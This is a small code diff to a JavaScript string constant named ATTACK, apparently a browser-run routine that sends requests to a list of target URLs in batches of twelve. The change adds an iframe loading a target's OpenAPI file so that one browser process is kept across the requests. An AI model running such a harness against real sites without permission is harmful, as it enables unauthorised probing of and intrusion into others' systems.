@@ -77,6 +77,10 @@ const ATTACK = `async (aims) => {
         : [posted(aim, at)]),
     ]);
   };
+  // a frame that stays keeps the process for the other ones, which the browser would begin anew for each of them
+  const kept = document.createElement("iframe");
+  kept.src = new URL("/api/v1/openapi.json", aims[0].url).href;
+  document.body.append(kept);
   for (let at = 0; at < aims.length; at += 12) await Promise.all(aims.slice(at, at + 12).map((aim, by) => each(aim, at + by)));
   return read;
 }`;
